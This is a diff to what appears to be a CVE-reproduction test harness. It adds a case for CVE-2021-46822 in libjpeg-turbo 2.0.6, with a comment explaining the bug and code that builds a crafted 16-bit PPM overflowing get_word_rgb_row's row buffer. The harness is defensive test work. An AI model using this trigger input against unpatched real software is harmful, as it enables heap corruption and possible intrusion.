@@ -284,6 +284,31 @@ def expat_get_buffer_overflow(pkg: ModuleType, lib: Any) -> int:
     return int(plain(lib.XML_ParseBuffer(parser, FILL, 0)))
 
 
+# -- libjpeg-turbo 2.0.6: CVE-2021-46822 ------------------------------------------------
+# tjLoadImage() sets the PPM reader's input colour space from the caller's pixel format
+# before rdppm.c's start_input picks a row reader; for a binary PPM of maxval above 255
+# it picks get_word_rgb_row whatever that colour space is, which writes three samples a
+# pixel into a row start_input sized for one when the caller asked for grayscale: a row
+# of 32768 pixels overruns its allocation by 64 KiB.
+
+PPM_WIDTH = 1 << 15
+PGM_PIXELS = bytes(range(8))
+PGM = b"P5 4 2 255\n" + PGM_PIXELS  # 4x2, 8-bit
+
+
+def ppm_gray(lib: Any, data: bytes, size: int) -> bytes:
+    """The ``size`` grayscale pixels the PPM reader reads of ``data``."""
+    gray = lib.alloc(size)
+    assert plain(lib.helpers.ppm_gray(data, gray.address, size)) == 1
+    return bytes(plain(gray.read()))
+
+
+def ppm_word_rgb_overflow(pkg: ModuleType, lib: Any) -> bytes:
+    """CVE-2021-46822: a one-row 16-bit PPM read as grayscale."""
+    ppm = b"P6 %d 1 65535\n" % PPM_WIDTH + b"\x12\x34" * (3 * PPM_WIDTH)
+    return ppm_gray(lib, ppm, PPM_WIDTH)
+
+
 # -- libpng 1.6.39: CVE-2025-66293 ------------------------------------------------------
 # The simplified API reads an image with transparency into a format without alpha by
 # composing each pixel on what the caller's buffer holds (png_image_read_composite): it
@@ -351,6 +376,8 @@ CASES = {case.name: case for case in (
          "BuildHuffmanTable"),
     Case("CVE-2022-23852", CVES / "expat_2_2_10" / "expat.toml", expat_get_buffer_overflow,
          "XML_GetBuffer"),
+    Case("CVE-2021-46822", CVES / "libjpeg_turbo_2_0_6" / "libjpeg_turbo.toml",
+         ppm_word_rgb_overflow, "get_word_rgb_row"),
     Case("CVE-2025-66293", CVES / "libpng_1_6_39" / "libpng.toml", png_composite_overread,
          "png_image_read_composite"),
 )}
